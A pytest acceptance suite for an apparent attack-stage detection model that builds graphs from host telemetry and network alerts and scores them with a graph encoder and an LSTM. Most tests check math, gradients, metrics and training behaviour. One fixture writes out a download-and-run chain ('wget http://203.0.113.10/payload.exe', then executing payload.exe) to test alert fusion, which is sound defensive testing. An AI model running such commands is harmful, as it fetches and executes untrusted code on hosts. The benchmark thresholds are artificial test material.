"""Acceptance criteria, one test per criterion.

Each test prints a single ``[criterion N] PASS`` line with the measured
quantities when its assertions hold; a failure raises before the line prints.
The end-to-end benchmark (criteria 8 and 9) runs once per seed and is shared
between the two tests via a module-scoped fixture.
"""
import json
import math
import time
from pathlib import Path

import numpy as np
import pytest
import scipy.sparse as sp

from aptstage.benchmark import run_benchmark
from aptstage.encoder import (
    encode_packed,
    encoder_param_spec,
    message_passing_packed,
    pack_graphs,
    project_packed,
)
from aptstage.estimator import (
    apply_forget_bias,
    classify,
    estimator_param_spec,
    predict_next,
    recurrent_forward,
)
from aptstage.evaluation import (
    aupr,
    average_precision,
    classification_metrics,
    temporal_flip_rate,
)
from aptstage.graphs import (
    Edge,
    Node,
    NodeKind,
    Relation,
    build_graph,
    window_events,
)
from aptstage.model import (
    FREEZE_ENCODER,
    FREEZE_LOWER_RECURRENT,
    ModelConfig,
    build_param_store,
    encode_windows,
    infer_probabilities,
)
from aptstage.nn import (
    ParamStore,
    as_tensor,
    gather_rows,
    init_params,
)
from aptstage.telemetry import HostEvent, NetworkAlert
from aptstage.training import (
    FinetuneConfig,
    PretrainConfig,
    Trace,
    WindowRecord,
    finetune,
    loss_contrastive_pooled,
    loss_pred,
    loss_supervised,
    pretrain,
)

from grad_check import finite_diff_check
from graph_helpers import event_table, make_graph
from nn_reference import add, block_counts, mul, tsum

ROOT = Path(__file__).resolve().parent.parent


# ------------------------------------------------------------ criterion 1


def test_criterion_1_reference_corpus_caveat():
    """The published-scale corpora are not bundled; the README must say what
    stands in for them."""
    readme = (ROOT / "README.md").read_text()
    assert "synthetic" in readme.lower()
    assert "benchmark" in readme.lower()
    # the stand-in suites exist and are runnable
    assert (ROOT / "src" / "aptstage" / "benchmark.py").exists()
    print("\n[criterion 1] PASS — reference corpora documented as out of scope; "
          "synthetic benchmark + property suites stand in")


# ------------------------------------------------------------ criterion 2


def _random_graph(rng, n_nodes, n_edges):
    nodes = tuple(Node(NodeKind.PROCESS, f"n{i}", {"first_ts": 0.0})
                  for i in range(n_nodes))
    rels = [r for r in Relation if r is not Relation.TRIGGERED_BY]
    edges = tuple(
        Edge(rels[int(rng.integers(len(rels)))],
             int(rng.integers(n_nodes)), int(rng.integers(n_nodes)), 1.0)
        for _ in range(n_edges))
    return make_graph(0, 0.0, nodes, edges)


def _softmax_rows(v):
    e = np.exp(v - v.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def test_criterion_2_equation_oracles():
    rng = np.random.default_rng(2024)
    t0 = time.monotonic()
    worst = 0.0

    for _ in range(100):
        # loss_pred
        T, d = int(rng.integers(1, 5)), int(rng.integers(1, 4))
        pred, tgt = rng.normal(size=(T, d)), rng.normal(size=(T, d))
        want = sum((tgt[t, j] - pred[t, j]) ** 2 for t in range(T) for j in range(d)) / T
        worst = max(worst, abs(float(loss_pred(pred, tgt).data) - want))

        # loss_supervised
        C = 7
        p = _softmax_rows(rng.normal(size=(T, C)))
        y = rng.integers(0, C, size=T)
        w = rng.uniform(0.5, 2.0, size=C)
        want = -sum(w[y[t]] * math.log(p[t, y[t]] + 1e-8) for t in range(T)) / T
        worst = max(worst, abs(float(loss_supervised(p, y, w).data) - want))

        # loss_contrastive_pooled, the S·K negatives as the pool
        S, K = int(rng.integers(1, 4)), int(rng.integers(1, 4))
        a, pos = rng.normal(size=(S, d)), rng.normal(size=(S, d))
        neg = rng.normal(size=(S * K, d))
        unit = lambda v: v / (np.linalg.norm(v) + 1e-12)
        total = 0.0
        for s in range(S):
            ps = math.exp(np.dot(unit(a[s]), unit(pos[s])) / 0.2)
            den = ps + sum(math.exp(np.dot(unit(a[s]), unit(neg[s * K + k])) / 0.2)
                           for k in range(K))
            total -= math.log(ps / den)
        got = loss_contrastive_pooled(a, pos, neg, block_counts(S, K), tau=0.2)
        worst = max(worst, abs(float(got.data) - total / S))

        # project_packed
        d_x, d_e, d_h, n, m = 3, 2, 4, 2, 2
        pstore = ParamStore()
        for name, shape in (("proj.Wx", (d_h, d_x)), ("proj.bx", (d_h,)),
                            ("proj.Wz", (d_h, d_e)), ("proj.bz", (d_h,))):
            pstore.add(name, rng.normal(size=shape))
        W_x, b_x = pstore.tensor("proj.Wx").data, pstore.tensor("proj.bx").data
        X, Z = rng.normal(size=(n, d_x)), rng.normal(size=(m, d_e))
        pg = make_graph(0, 0.0, _random_graph(rng, n, 0).nodes,
                        (Edge(Relation.SELF_LOOP, 0, 0, 0.0),) * m)
        node_features = project_packed(pack_graphs([(sp.csr_array(X), Z, pg)]), pstore)[0].data
        for i in range(n):
            for k in range(d_h):
                want = b_x[k] + sum(W_x[k, j] * X[i, j] for j in range(d_x))
                worst = max(worst, abs(node_features[i, k] - want))

        # message_passing_packed
        g = _random_graph(rng, int(rng.integers(2, 5)), int(rng.integers(1, 6)))
        nv, ne = len(g.nodes), len(g.edges)
        h = rng.normal(size=(nv, d_h))
        z = rng.normal(size=(ne, d_h))
        weights = {rel: rng.normal(size=(d_h, 2 * d_h)) for rel in Relation}
        # packed as the raw edge features, z comes out as its segment means
        packed = pack_graphs([(sp.csr_array((nv, 0)), z, g)])
        got = message_passing_packed(
            packed, as_tensor(h), packed.Zbar,
            {r: as_tensor(W) for r, W in weights.items()}).data
        for i in range(nv):
            acc = np.zeros(d_h)
            for rel, W in weights.items():
                msgs = [W @ np.concatenate([h[e.src], z[j]])
                        for j, e in enumerate(g.edges)
                        if e.relation is rel and e.dst == i]
                if msgs:
                    acc += np.mean(msgs, axis=0)
            worst = max(worst, np.max(np.abs(got[i] - np.maximum(acc, 0.0))))

        # recurrent_forward (2-layer gate equations, batch 1)
        ecfg = ModelConfig(d_g=3, hidden=2, lstm_layers=2, dropout=0.0)
        store = init_params(estimator_param_spec(ecfg), seed=int(rng.integers(1 << 30)))
        x = rng.normal(size=(int(rng.integers(1, 4)), 3))
        got = recurrent_forward(x, store, ecfg).data
        sig = lambda v: 1.0 / (1.0 + np.exp(-v))
        layer_in = x
        H = 2
        for layer in range(2):
            Wih = store.tensor(f"lstm.L{layer}.Wih").data
            Whh = store.tensor(f"lstm.L{layer}.Whh").data
            b = store.tensor(f"lstm.L{layer}.b").data
            hs, cs = np.zeros(H), np.zeros(H)
            outs = []
            for t in range(x.shape[0]):
                gate = Wih @ layer_in[t] + Whh @ hs + b
                i_, f_, g_, o_ = (sig(gate[:H]), sig(gate[H:2 * H]),
                                  np.tanh(gate[2 * H:3 * H]), sig(gate[3 * H:]))
                cs = f_ * cs + i_ * g_
                hs = o_ * np.tanh(cs)
                outs.append(hs)
            layer_in = np.array(outs)
        worst = max(worst, np.max(np.abs(got - layer_in)))

        # classify
        hm = rng.normal(size=(T, 2))
        cstore = ParamStore()
        Wc, bc = rng.normal(size=(C, 2)), rng.normal(size=C)
        cstore.add("head.stage.W", Wc)
        cstore.add("head.stage.b", bc)
        got = classify(hm, cstore).data
        logits = hm @ Wc.T + bc
        for t in range(T):
            den = sum(math.exp(logits[t, j] - logits[t].max()) for j in range(C))
            for k in range(C):
                want = math.exp(logits[t, k] - logits[t].max()) / den
                worst = max(worst, abs(got[t, k] - want))

    elapsed = time.monotonic() - t0
    assert worst < 1e-12, f"worst oracle deviation {worst:.3e}"
    assert elapsed < 1.0, f"oracle suite took {elapsed:.2f}s (budget 1s)"
    print(f"\n[criterion 2] PASS — 7 equation oracles × 100 random instances, "
          f"worst |Δ| {worst:.2e} < 1e-12 in {elapsed:.2f}s")


# ------------------------------------------------------------ criterion 3


def _five_node_graph(rng):
    g = _random_graph(rng, 5, 0)
    edges = (Edge(Relation.READ, 0, 1, 1.0), Edge(Relation.WRITE, 1, 2, 2.0),
             Edge(Relation.CONNECT, 2, 3, 3.0), Edge(Relation.SEND, 3, 4, 4.0),
             Edge(Relation.SPAWN, 4, 0, 5.0)) + tuple(
        Edge(Relation.SELF_LOOP, i, i, 0.0) for i in range(5))
    return make_graph(0, 0.0, g.nodes, edges)


def test_criterion_3_gradient_suite():
    t0 = time.monotonic()
    rng = np.random.default_rng(7)
    d_x, d_e, d_h, d_g = 6, 4, 4, 3

    # (a) encoder parameters through a scalar of g_t on a 5-node graph
    g = _five_node_graph(rng)
    X = rng.normal(size=(5, d_x))
    Z = rng.normal(size=(len(g.edges), d_e))
    probe = rng.normal(size=d_g)
    enc_store = init_params(encoder_param_spec(d_x, d_e, d_h, d_g), seed=1)

    packed = pack_graphs([(sp.csr_array(X), Z, g)])

    def enc_loss(st):
        emb = encode_packed(packed, st).g  # (1, d_g)
        return tsum(mul(emb, as_tensor(probe)))

    err_a = finite_diff_check(enc_loss, enc_store, max_coords=200, rng_seed=0)
    assert err_a < 1e-4, f"encoder gradient error {err_a:.3e}"

    # (b) estimator parameters through L_sup on a 5-step sequence
    ecfg = ModelConfig(d_g=3, hidden=4, lstm_layers=2, dropout=0.0)
    est_store = init_params(estimator_param_spec(ecfg), seed=2)
    apply_forget_bias(est_store, ecfg)
    xs = rng.normal(size=(5, 3))
    ys = rng.integers(0, 7, size=5)
    wts = rng.uniform(0.5, 2.0, size=7)

    def sup_loss(st):
        h = recurrent_forward(xs, st, ecfg)
        return loss_supervised(classify(h, st), ys, wts)

    err_b = finite_diff_check(sup_loss, est_store, max_coords=200, rng_seed=1)
    assert err_b < 1e-4, f"estimator gradient error {err_b:.3e}"

    # (c) joint L_ssl on a 3-sequence batch through the full model
    mcfg = ModelConfig(d_h=4, d_g=4, hidden=4)
    full_store = build_param_store(mcfg)
    wins = []
    for i in range(9):  # 3 traces x 3 windows
        gw = _five_node_graph(rng)
        wins.append((sp.csr_array(rng.normal(size=(5, mcfg.featurizer.node_dim))),
                     rng.normal(size=(len(gw.edges), mcfg.featurizer.edge_dim)), gw))
    seq_rows = np.arange(9).reshape(3, 3)
    anchor_rows = np.array([0, 1, 3, 4, 6, 7])  # rows b*L+t for t < L-1

    def ssl_loss(st):
        enc = encode_windows(wins, st, mcfg)
        g_seq = gather_rows(enc.g, seq_rows.ravel())
        h = recurrent_forward(g_seq, st, mcfg, batch=3)
        ghat = predict_next(gather_rows(h, anchor_rows), st)
        target = gather_rows(g_seq, anchor_rows + 1)
        counts = np.zeros((6, 9))
        counts[:, :3] = 1.0  # windows 0-2 are every anchor's negatives
        return add(loss_pred(ghat, target), loss_contrastive_pooled(ghat, target, enc.g, counts))

    err_c = finite_diff_check(ssl_loss, full_store, max_coords=200, rng_seed=2)
    assert err_c < 1e-4, f"joint SSL gradient error {err_c:.3e}"

    elapsed = time.monotonic() - t0
    assert elapsed < 30.0, f"gradient suite took {elapsed:.1f}s (budget 30s)"
    print(f"\n[criterion 3] PASS — finite differences: encoder {err_a:.2e}, "
          f"supervised {err_b:.2e}, joint SSL {err_c:.2e} (all < 1e-4) "
          f"in {elapsed:.1f}s")


# ------------------------------------------------------------ criterion 4


def test_criterion_4_structural_invariants():
    rng = np.random.default_rng(11)
    d_x, d_e, d_h, d_g = 5, 3, 4, 4
    store = init_params(encoder_param_spec(d_x, d_e, d_h, d_g), seed=3)

    g = _random_graph(rng, 8, 14)
    g = make_graph(0, 0.0, g.nodes, g.edges + tuple(
        Edge(Relation.SELF_LOOP, i, i, 0.0) for i in range(8)))
    X = rng.normal(size=(8, d_x))
    Z = rng.normal(size=(len(g.edges), d_e))
    base = encode_packed(pack_graphs([(sp.csr_array(X), Z, g)]), store)

    worst_perm = 0.0
    for _ in range(50):
        perm = rng.permutation(8)
        order = np.argsort(perm)
        nodes = tuple(g.nodes[o] for o in order)
        edges = tuple(Edge(e.relation, int(perm[e.src]), int(perm[e.dst]),
                           e.timestamp, e.bytes, e.count) for e in g.edges)
        g2 = make_graph(0, 0.0, nodes, edges)
        out = encode_packed(pack_graphs([(sp.csr_array(X[order]), Z, g2)]), store)
        worst_perm = max(worst_perm, float(np.max(np.abs(out.g.data - base.g.data))))
    assert worst_perm < 1e-10, f"permutation deviation {worst_perm:.3e}"

    alpha_err = abs(float(base.alpha.data.sum()) - 1.0)
    assert alpha_err < 1e-9

    # simplex constraint and causality on the full stack
    mcfg = ModelConfig(d_h=4, d_g=4, hidden=4)
    full_store = build_param_store(mcfg)
    wins = []
    for i in range(6):
        gw = _five_node_graph(rng)
        wins.append((sp.csr_array(rng.normal(size=(5, mcfg.featurizer.node_dim))),
                     rng.normal(size=(len(gw.edges), mcfg.featurizer.edge_dim)), gw))
    full = infer_probabilities(wins, full_store, mcfg)
    assert np.all(full > 0)
    simplex_err = float(np.max(np.abs(full.sum(axis=1) - 1.0)))
    assert simplex_err < 1e-9

    prefix = infer_probabilities(wins[:4], full_store, mcfg)
    causal_err = float(np.max(np.abs(full[:4] - prefix)))
    assert causal_err < 1e-12

    print(f"\n[criterion 4] PASS — 50 permutations |Δ| {worst_perm:.2e} < 1e-10; "
          f"attention sum |Δ| {alpha_err:.2e} < 1e-9; simplex |Δ| {simplex_err:.2e}; "
          f"causality |Δ| {causal_err:.2e} < 1e-12")


# ------------------------------------------------------------ criterion 5


def test_criterion_5_fusion_golden():
    from aptstage.telemetry import EntityKind, EntityRef, EventKind, Protocol

    host = "10.1.1.45"
    proc = lambda name: EntityRef(EntityKind.PROCESS, f"{host}/{name}")
    events = [
        HostEvent(10.0, host, EventKind.PROCESS_CREATE,
                  proc("powershell.exe"), proc("wget.exe"),
                  command="wget http://203.0.113.10/payload.exe", user="victim"),
        HostEvent(12.0, host, EventKind.NET_CONNECT, proc("wget.exe"),
                  EntityRef(EntityKind.IP, "203.0.113.10"), user="victim"),
        HostEvent(14.0, host, EventKind.FILE_CREATE, proc("wget.exe"),
                  EntityRef(EntityKind.FILE, f"{host}/payload.exe"),
                  user="victim"),
        HostEvent(16.0, host, EventKind.PROCESS_CREATE,
                  proc("payload.exe"), proc("payload.exe"),
                  command="payload.exe", user="victim"),
    ]
    alerts = [NetworkAlert(13.0, "ET TROJAN Possible Malicious EXE Download",
                           0.8, Protocol.TCP, "trojan-activity",
                           host, 49152, "203.0.113.10", 80)]
    windows = window_events(event_table(events), alerts)
    graph = build_graph(windows[0])
    golden = json.loads((ROOT / "tests" / "data" / "golden_fusion.json").read_text())
    assert graph.to_json_dict() == golden

    # the alert fused as a node whose triggered_by edge points at the
    # downloader process
    idx = {n.key: i for i, n in enumerate(graph.nodes)}
    trig = [e for e in graph.edges if e.relation is Relation.TRIGGERED_BY]
    assert len(trig) == 1
    assert graph.nodes[trig[0].src].kind is NodeKind.ALERT
    assert graph.nodes[trig[0].dst].key == f"{host}/wget.exe"
    assert idx[f"{host}/wget.exe"] == trig[0].dst
    print("\n[criterion 5] PASS — alert-fusion graph matches the golden "
          "node/edge set exactly, including triggered_by → wget.exe")


# ------------------------------------------------------------ criterion 6


def test_criterion_6_metric_oracles():
    rng = np.random.default_rng(99)

    # exact confusion arithmetic on 1000 random cases
    for _ in range(1000):
        n = int(rng.integers(1, 30))
        y_true = rng.integers(0, 7, size=n)
        y_pred = rng.integers(0, 7, size=n)
        got = classification_metrics(y_true, y_pred)
        for k in range(7):
            tp = int(np.sum((y_true == k) & (y_pred == k)))
            fp = int(np.sum((y_true != k) & (y_pred == k)))
            fn = int(np.sum((y_true == k) & (y_pred != k)))
            P = tp / (tp + fp) if tp + fp else 0.0
            R = tp / (tp + fn) if tp + fn else 0.0
            F = 2 * P * R / (P + R) if P + R else 0.0
            assert got["precision"][k] == P
            assert got["recall"][k] == R
            assert got["f1"][k] == F
        assert got["accuracy"] == float(np.mean(y_true == y_pred))

    # AUPR vs the exhaustive-threshold oracle
    worst_ap = 0.0
    for _ in range(300):
        n = int(rng.integers(2, 40))
        y = rng.integers(0, 2, size=n).astype(bool)
        if not y.any():
            y[int(rng.integers(n))] = True
        s = rng.normal(size=n)  # continuous scores: ties have measure zero

        def threshold_ap(yv, sv):
            n_pos = int(yv.sum())
            ap, prev_r = 0.0, 0.0
            for t in sorted(set(sv), reverse=True):
                sel = sv >= t
                tp = int((yv & sel).sum())
                prec = tp / int(sel.sum())
                rec = tp / n_pos
                ap += (rec - prev_r) * prec
                prev_r = rec
            return ap

        worst_ap = max(worst_ap, abs(average_precision(y, s) - threshold_ap(y, s)))
    assert worst_ap < 1e-9, f"AP deviation {worst_ap:.3e}"

    # macro AUPR consistency on a labeled batch
    y = rng.integers(0, 3, size=40)
    probs = rng.random((40, 7))
    want = np.mean([average_precision(y == k, probs[:, k]) for k in range(3)])
    assert aupr(y, probs) == pytest.approx(want, abs=1e-12)

    assert temporal_flip_rate([1, 1, 2, 2, 2]) == 0.25
    print(f"\n[criterion 6] PASS — 1000 confusion cases exact; AP vs "
          f"threshold oracle |Δ| {worst_ap:.2e} < 1e-9; TFR(1,1,2,2,2) = 0.25")


# ------------------------------------------------------------ criterion 7


def _tiny_trace(rng, tid, n_windows=6):
    mcfg = ModelConfig(d_h=8, d_g=8, hidden=8)
    windows = []
    for w in range(n_windows):
        g = _five_node_graph(rng)
        windows.append(WindowRecord(
            X=sp.csr_array(rng.normal(size=(5, mcfg.featurizer.node_dim))),
            Z=rng.normal(size=(len(g.edges), mcfg.featurizer.edge_dim)),
            graph=g, label=w % 7))
    return Trace(tid, windows)


def test_criterion_7_training_protocol_contracts():
    mcfg = ModelConfig(d_h=8, d_g=8, hidden=8)
    rng = np.random.default_rng(23)
    traces = [_tiny_trace(rng, f"t{i}") for i in range(3)]

    # frozen parameters bit-identical through phase 1
    store = build_param_store(mcfg)
    before = store.snapshot()
    finetune(traces, store, mcfg,
             FinetuneConfig(phase1_epochs=2, phase2_epochs=1, phase2_lr=0.0,
                            patience=3, batch=2, val_fraction=0.34))
    frozen_prefixes = FREEZE_LOWER_RECURRENT + FREEZE_ENCODER
    after = store.snapshot()
    frozen_ok = all(np.array_equal(before[k], after[k])
                    for k in before if k.startswith(frozen_prefixes))
    head_moved = any(not np.array_equal(before[k], after[k])
                     for k in before if k.startswith("head."))
    assert frozen_ok and head_moved

    # early stopping on a scripted decreasing-F1 stub
    store2 = build_param_store(mcfg)
    snaps = {}

    def scripted(st, phase, epoch):
        if phase == "phase1" and epoch == 1:
            snaps["best"] = st.snapshot()
        return 1.0 / epoch

    res = finetune(traces, store2, mcfg,
                   FinetuneConfig(phase1_epochs=50, phase2_epochs=50,
                                  phase2_lr=0.0, patience=5, batch=2),
                   val_traces=[], val_metric_fn=scripted)
    p1 = [r for r in res.metric_log if r["phase"] == "phase1"]
    assert len(p1) == 6  # best at 1, patience 5 exhausted at epoch 6
    final = store2.snapshot()
    assert all(np.array_equal(final[k], snaps["best"][k]) for k in final)

    # curriculum 10 -> 30, non-decreasing (early stopping disabled by an
    # always-improving stub)
    store3 = build_param_store(mcfg)
    res3 = finetune(traces, store3, mcfg,
                    FinetuneConfig(phase1_epochs=3, phase2_epochs=5,
                                   patience=10, batch=2),
                    val_traces=[], val_metric_fn=lambda st, ph, ep: ep / 100.0)
    for phase in ("phase1", "phase2"):
        lens = [r["seq_len"] for r in res3.metric_log if r["phase"] == phase]
        assert lens[0] == 10 and lens[-1] == 30
        assert all(b >= a for a, b in zip(lens, lens[1:]))

    # bit-exact reproducibility of pretrain + finetune under a fixed seed
    snapshots = []
    for _ in range(2):
        st = build_param_store(mcfg)
        pretrain(traces, st, mcfg, PretrainConfig(epochs=2, batch=2, negatives=4, seed=5))
        finetune(traces, st, mcfg,
                 FinetuneConfig(phase1_epochs=1, phase2_epochs=1, batch=2,
                                seed=5, val_fraction=0.34))
        snapshots.append(st.snapshot())
    assert all(np.array_equal(snapshots[0][k], snapshots[1][k])
               for k in snapshots[0])

    print("\n[criterion 7] PASS — phase-1 freeze bit-identical; scripted early "
          "stop halts at epoch 6 and restores epoch 1; curriculum 10→30 "
          "non-decreasing; two seeded runs bit-identical")


# ------------------------------------------------------------ criteria 8+9


@pytest.fixture(scope="module")
def benchmark_results():
    results = []
    for seed in (0, 1, 2):
        results.append(run_benchmark(seed))
    return results


@pytest.mark.slow
def test_criterion_8_end_to_end_benchmark(benchmark_results):
    total_runtime = sum(r["runtime_s"] for r in benchmark_results)
    lines = []
    for r in benchmark_results:
        assert r["n_traces"] >= 200
        assert r["label_classes"] == list(range(7)), "corpus must cover all 7 classes"
        assert r["macro_f1"] >= 0.85, (
            f"seed {r['seed']}: macro F1 {r['macro_f1']:.4f} < 0.85")
        assert r["tfr"] < r["tfr_ablation"], (
            f"seed {r['seed']}: TFR {r['tfr']:.4f} not strictly below "
            f"ablation {r['tfr_ablation']:.4f}")
        lines.append(f"seed {r['seed']}: F1 {r['macro_f1']:.3f}, "
                     f"TFR {r['tfr']:.3f} < {r['tfr_ablation']:.3f}")
    assert total_runtime <= 1800.0, f"benchmark took {total_runtime:.0f}s (budget 1800s)"
    print(f"\n[criterion 8] PASS — {'; '.join(lines)}; "
          f"total {total_runtime:.0f}s ≤ 1800s")


@pytest.mark.slow
def test_criterion_9_ssl_learning_signal(benchmark_results):
    lines = []
    for r in benchmark_results:
        assert len(r["pretrain_log"]) == 20
        ratio = r["ssl_last_epoch"] / r["ssl_first_epoch"]
        assert ratio <= 0.7, (
            f"seed {r['seed']}: epoch-20 L_ssl is {ratio:.3f}× epoch-1 (> 0.7)")
        lines.append(f"seed {r['seed']}: {r['ssl_first_epoch']:.2f}→"
                     f"{r['ssl_last_epoch']:.2f} ({ratio:.3f}×)")
    print(f"\n[criterion 9] PASS — L_ssl(20) ≤ 0.7·L_ssl(1) on every seed: "
          f"{'; '.join(lines)}")
